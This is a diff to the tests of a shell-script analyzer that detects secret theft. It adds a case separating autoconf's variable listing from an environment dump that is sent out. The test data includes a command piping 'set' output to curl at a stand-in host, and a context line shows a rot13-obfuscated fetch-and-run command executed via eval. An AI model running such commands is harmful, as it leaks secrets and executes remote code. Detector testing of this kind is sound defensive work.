@@ -291,6 +291,19 @@ fn host_identity_sent_out_is_exfiltration() {
 }
 
 #[test]
+fn autoconf_cache_saving_is_not_an_environment_dump() {
+    // configure's cache save lists the shell's variables through sed.
+    let conf = "for ac_var in `(set) 2>&1 | sed -n 's/^\\([a-zA-Z_][a-zA-Z0-9_]*\\)=.*/\\1/p'`; do\n  eval ac_val=\\$$ac_var\ndone\n";
+    let f = analyze_script(conf, Dialect::Bash);
+    assert!(!kinds(&f).contains(&K::SecretRead), "{:?}", details(&f));
+    // The same listing sent out still is exfiltration.
+    has(
+        "set | curl -s -d @- https://c.example.invalid/e",
+        K::SecretExfiltration,
+    );
+}
+
+#[test]
 fn rot13_with_tr_is_a_decoder() {
     let src =
         "C=$(echo 'phey -s uggc://k.vainyvq/n | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m')\neval \"$C\"\n";
